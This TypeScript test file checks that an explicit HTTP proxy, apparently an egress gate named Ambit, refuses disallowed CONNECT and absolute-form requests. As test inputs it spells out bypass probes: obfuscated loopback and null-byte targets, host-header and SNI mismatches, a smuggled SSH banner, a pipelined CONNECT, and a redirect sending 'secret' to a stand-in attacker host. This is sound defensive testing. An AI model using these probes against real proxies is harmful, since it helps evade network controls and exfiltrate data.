/** The explicit proxy gives no right that a direct connection would not have. */
import assert from 'node:assert/strict'
import { after, test } from 'node:test'
import { startUpstream } from '../fixtures/servers/upstream.ts'
import { curl, planOf, rawTcp, rule, startBench, testCa } from './harness.ts'

const upstream = await startUpstream({
  tls: testCa.issue(['api.example.com', 'other.example.com']),
  http2: true,
})
const plain = await startUpstream({ tls: null })
const connect = { address: '127.0.0.1', port: upstream.port }
const asked: string[] = []
const bench = await startBench(
  planOf([
    rule({ host: 'api.example.com', connect }),
    rule({ host: 'other.example.com', connect }),
    rule({
      host: 'apt.example.com',
      ports: [80],
      plain: true,
      connect: { address: '127.0.0.1', port: plain.port },
    }),
  ]),
  {
    resolve: async (name) => {
      asked.push(name)
      return []
    },
  },
)
after(async () => {
  await bench.close()
  await Promise.all([upstream.close(), plain.close()])
})

const proxied = (url: string, ...args: string[]) =>
  curl('--proxy', `http://127.0.0.1:${bench.ports.proxy}`, '--cacert', bench.ca, ...args, url)
const raw = (request: string) => rawTcp(bench.ports.proxy, request)
const reached = () => [upstream.connections, plain.connections, asked.length]

test('CONNECT to an admitted host is served like a direct connection', async () => {
  for (const version of ['--http1.1', '--http2'])
    assert.equal((await proxied('https://api.example.com/echo', version)).status, 200)
  assert.equal(bench.of('http.request').at(-1)?.host, 'api.example.com')
})

test('N-24: a tunnel gives no more than a direct connection: paths, authority and bodies are decided inside', async () => {
  const { status, body } = await proxied('https://api.example.com/', '-H', 'Host: other.example.com')
  assert.equal(status, 421)
  assert.match(body, /misdirected/)
})

test('N-01, N-04, Q-02: CONNECT to another host is refused before the 200, without a lookup', async () => {
  const before = reached()
  const answer = await raw('CONNECT data.evil.invalid:443 HTTP/1.1\r\nHost: data.evil.invalid:443\r\n\r\n')
  assert.match(answer, /^HTTP\/1\.1 403 /)
  assert.match(answer, /network\.no-matching-rule/)
  assert.deepEqual(reached(), before)
  assert.equal(bench.of('net.denied').at(-1)?.host, 'data.evil.invalid')
})

test('N-12: CONNECT to another port is refused', async () => {
  assert.match(
    await raw('CONNECT api.example.com:22 HTTP/1.1\r\nHost: api.example.com:22\r\n\r\n'),
    /port-not-allowed/,
  )
})

test('N-06, N-07, N-09, N-11: odd spellings of a CONNECT target are refused', async () => {
  const before = reached()
  for (const target of [
    'evil%00.api.example.com:443',
    'user@api.example.com:443',
    'api.example.com',
    'api.example.com:0443',
    'api.example.com:0',
    'api.example.com:65536',
    'api.example.com:443:443',
    'under_score.example.com:443',
    'https://api.example.com:443',
    '127.1:443',
    '2130706433:443',
    '[::1]:443',
    '[::ffff:127.0.0.1]:443',
    '127.0.0.1:443',
  ]) {
    const answer = await rawTcp(
      bench.ports.proxy,
      `CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`,
      100,
    )
    assert.match(answer, /^HTTP\/1\.1 4\d\d /, target)
  }
  assert.match(
    await raw('CONNECT evil\0.api.example.com:443 HTTP/1.1\r\nHost: x\r\n\r\n'),
    /^HTTP\/1\.1 400 /,
  )
  assert.deepEqual(reached(), before)
})

test('N-20: CONNECT whose Host header names another host is refused', async () => {
  const answer = await raw('CONNECT api.example.com:443 HTTP/1.1\r\nHost: other.example.com:443\r\n\r\n')
  assert.match(answer, /^HTTP\/1\.1 400 /)
})

test('N-20: the server name inside must be the CONNECT host', async () => {
  const { status } = await proxied(
    'https://other.example.com/',
    '--connect-to',
    'other.example.com:443:api.example.com:443',
  )
  assert.equal(status, 421)
})

test('N-23: what follows CONNECT must be TLS, or HTTP where a rule has it plain', async () => {
  const before = reached()
  const connect = 'CONNECT api.example.com:443 HTTP/1.1\r\nHost: api.example.com:443\r\n\r\n'
  // Refused in the words of its own protocol, by the gate: nobody was dialled.
  const ssh = await raw(`${connect}SSH-2.0-x\r\n`)
  assert.match(ssh, /^HTTP\/1\.1 200 Connection established\r\n\r\nSSH-2\.0-Ambit\r\n[^]*Refused by Ambit/)
  const http = await raw(`${connect}GET / HTTP/1.1\r\nHost: api.example.com:443\r\n\r\n`)
  assert.match(http, /^HTTP\/1\.1 200 Connection established\r\n\r\nHTTP\/1\.1 403 [^]*plain-not-allowed/)
  assert.deepEqual(reached(), before)
})

test('N-26: a client that follows a redirect to another host is refused there', async () => {
  const to = encodeURIComponent('https://evil.invalid/collect?d=secret')
  const { code, stderr } = await proxied(`https://api.example.com/redirect?to=${to}`, '-L')
  assert.notEqual(code, 0)
  assert.match(stderr, /403/)
  assert.equal(bench.of('net.denied').at(-1)?.host, 'evil.invalid')
  // Positive control: the same redirect to an admitted host is followed.
  const other = encodeURIComponent('https://other.example.com/echo')
  assert.equal((await proxied(`https://api.example.com/redirect?to=${other}`, '-L')).status, 200)
})

test('absolute form with an expectation that nobody knows is refused, on record', async () => {
  assert.equal((await proxied('http://apt.example.com/echo', '-H', 'Expect: a-miracle')).status, 417)
  const { host, reason } = bench.of('http.denied').at(-1) ?? {}
  assert.deepEqual({ host, reason }, { host: 'apt.example.com', reason: 'http.expectation-unknown' })
})

test('absolute form passes where a rule has plain HTTP', async () => {
  assert.equal((await proxied('http://apt.example.com/echo')).status, 200)
  assert.equal(plain.requests.at(-1)?.url, '/echo')
  assert.equal(plain.requests.at(-1)?.headers.host, 'apt.example.com')
  assert.equal(plain.requests.at(-1)?.headers['proxy-connection'], undefined)
})

test('absolute form elsewhere is refused: other hosts, https, userinfo, another Host header', async () => {
  const before = reached()
  assert.equal((await proxied('http://evil.invalid/')).status, 403)
  assert.equal((await proxied('http://api.example.com/')).status, 403)
  for (const [target, host] of [
    ['https://api.example.com/', 'api.example.com'],
    ['http://user:pw@apt.example.com/', 'apt.example.com'],
    ['http://apt.example.com/', 'evil.invalid'],
    ['http://evil\\.apt.example.com/', 'apt.example.com'],
    ['ftp://apt.example.com/', 'apt.example.com'],
    ['/', 'apt.example.com'],
  ])
    assert.match(await raw(`GET ${target} HTTP/1.1\r\nHost: ${host}\r\n\r\n`), /^HTTP\/1\.1 4\d\d /, target)
  assert.deepEqual(reached(), before)
})

test('N-24: CONNECT behind a request that has no answer yet is no tunnel; the proxy goes on', async () => {
  const host = 'apt.example.com'
  const one = (path: string) => `GET http://${host}${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`
  const connectTo = `CONNECT ${host}:80 HTTP/1.1\r\nHost: ${host}:80\r\n\r\n`
  const inside = `GET /inside HTTP/1.1\r\nHost: ${host}\r\nTE: x\r\n\r\nGET /more HTTP/1.1\r\nHost: ${host}\r\n\r\n`
  const before = plain.requests.length
  const answer = await raw(one('/first') + connectTo + inside)
  assert.doesNotMatch(answer, /200 Connection established/)
  assert.equal(bench.of('net.denied').at(-1)?.reason, 'http.malformed')
  assert.ok(!plain.requests.slice(before).some(({ url }) => url === '/inside'))
  const alone = await raw(connectTo + inside)
  assert.match(alone, /200 Connection established/, 'control: by itself it is one')
})

test('an upload that waits for 100 Continue is answered over HTTP/2, too', async () => {
  const { status } = await proxied(
    'https://api.example.com/echo',
    '--http2',
    '-H',
    'Expect: 100-continue',
    '--data-binary',
    'x'.repeat(2000),
  )
  assert.equal(status, 200)
})
